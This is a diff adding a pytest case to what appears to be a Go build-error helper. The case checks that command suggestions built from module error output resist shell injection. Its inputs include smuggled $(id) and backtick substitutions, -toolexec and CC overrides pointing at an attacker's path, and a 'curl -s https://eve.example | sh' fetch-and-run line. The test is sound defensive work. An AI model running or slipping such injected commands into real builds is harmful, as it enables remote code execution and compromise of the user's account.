@@ -133,6 +133,27 @@ def test_linkage() -> None:
 
 
 @pytest.mark.parametrize(
+    ("output", "command"),
+    [
+        ("a.go:3:8: no required module provides package a.example/$(id); to add it:", "go get 'a.example/$(id)'"),
+        (
+            "go: cannot load module ./b`id` listed in go.work file: open",
+            "go work edit -dropuse='./b`id`'   (or get that folder)",
+        ),
+        ("# a\n./a.go: #error\n\tgo work use .; curl -s https://eve.example | sh", ""),
+        ("a.go:3:8: no required module provides package -toolexec=/home/eve/x; to add it:", ""),
+        ("# a\n./a.go: #error\n\tgo get $(id)", ""),
+        ("# a\n./a.go: #error\n\tgo get -toolexec=/home/eve/x ./...", ""),
+        ("# a\n./a.go: #error\n\tgo env -w CC=/home/eve/cc", ""),
+        ("# a\n./a.go: wrong\n\tgo get -u example.com/x@v1.2.3 ./...  ", "go get -u example.com/x@v1.2.3 ./..."),
+    ],
+)
+def test_nothing_that_a_module_prints_is_more_than_words_of_a_command(output: str, command: str) -> None:
+    """The command is there to be copied into a shell, perhaps root's, and the module may be another account's."""
+    assert doctor_module.explain("go build failed", output)[1] == command
+
+
+@pytest.mark.parametrize(
     ("output", "said", "command"),
     [
         (
